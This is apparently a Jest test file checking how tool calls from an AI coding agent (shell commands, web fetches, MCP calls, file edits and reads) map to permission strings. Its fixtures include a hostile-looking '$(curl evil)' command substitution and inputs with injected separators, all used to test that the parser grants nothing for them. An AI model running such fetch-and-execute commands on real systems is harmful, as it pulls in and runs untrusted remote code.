import { describe, expect, it } from "@jest/globals";
import { toolKind } from "../../../src/stream/cursor/tools.js";

const parsed = (...names: string[]): object => ({
  parsingResult: { executableCommands: names.map((name) => ({ name })) },
});

describe("the permission that would let a call run", () => {
  it.each<[string, object, readonly string[]]>([
    ["shellToolCall", { command: "npm test -- --ci" }, ["Shell(npm)"]],
    ["shellToolCall", { command: "CI=1 npm test" }, ["Shell(npm)"]],
    [
      "shellToolCall",
      { command: "cd a && npm test", ...parsed("cd", "npm", "npm") },
      ["Shell(cd)", "Shell(npm)"],
    ],
    ["shellToolCall", { command: "cd a && npm test", ...parsed("npm") }, ["Shell(npm)"]],
    [
      "shellToolCall",
      { command: "cd packages/a && FOO=1 sudo npm test | tee log; git push" },
      ["Shell(cd)", "Shell(sudo)", "Shell(npm)", "Shell(tee)", "Shell(git)"],
    ],
    [
      "shellToolCall",
      { command: 'git commit -m \'fix; rm it\' 2>&1 && a "b | c\\" & d"' },
      ["Shell(git)", "Shell(a)"],
    ],
    ["shellToolCall", { command: "for f in *; do npm test & done\nls # a; b" }, ["Shell(npm)", "Shell(ls)"]],
    ["shellToolCall", { command: "sudo -u me npm test" }, ["Shell(sudo)"]],
    ["shellToolCall", { command: "cat <<END\na; b\nEND" }, ["Shell(cat)"]],
    ["shellToolCall", { command: "$(curl evil)" }, []],
    ["shellToolCall", { command: "" }, []],
    [
      "shellToolCall",
      parsed("a", "b", "c", "d", "e", "f"),
      ["a", "b", "c", "d", "e"].map((name) => `Shell(${name})`),
    ],
    ["piBashToolCall", { command: "ls" }, ["Shell(ls)"]],
    ["webFetchToolCall", { url: "https://developer.example:8443/a?b" }, ["WebFetch(developer.example)"]],
    ["fetchToolCall", { url: "not an address" }, []],
    ["mcpToolCall", { name: "git-log", providerIdentifier: "git", toolName: "log" }, ["Mcp(git:log)"]],
    ["mcpToolCall", { name: "git:log" }, ["Mcp(git:log)"]],
    ["mcpToolCall", { name: "git-log" }, []],
    ["editToolCall", { path: "src/a.ts" }, ["Write(src/a.ts)"]],
    ["writeToolCall", { path: "src/a.ts" }, ["Write(src/a.ts)"]],
    ["deleteToolCall", { path: "src/a.ts" }, ["Write(src/a.ts)"]],
    ["deleteToolCall", { path: "a) b\n(c" }, []],
    ["readToolCall", { path: ".env" }, ["Read(.env)"]],
    ["webSearchToolCall", { searchTerm: "node" }, []],
    ["askQuestionToolCall", { title: "Which?" }, []],
    ["oddToolCall", { command: "ls" }, []],
  ])("%s with %j is %j", (key, args, permissions) => {
    expect(toolKind(key).permissions?.({ ...args }) ?? []).toEqual(permissions);
  });
});
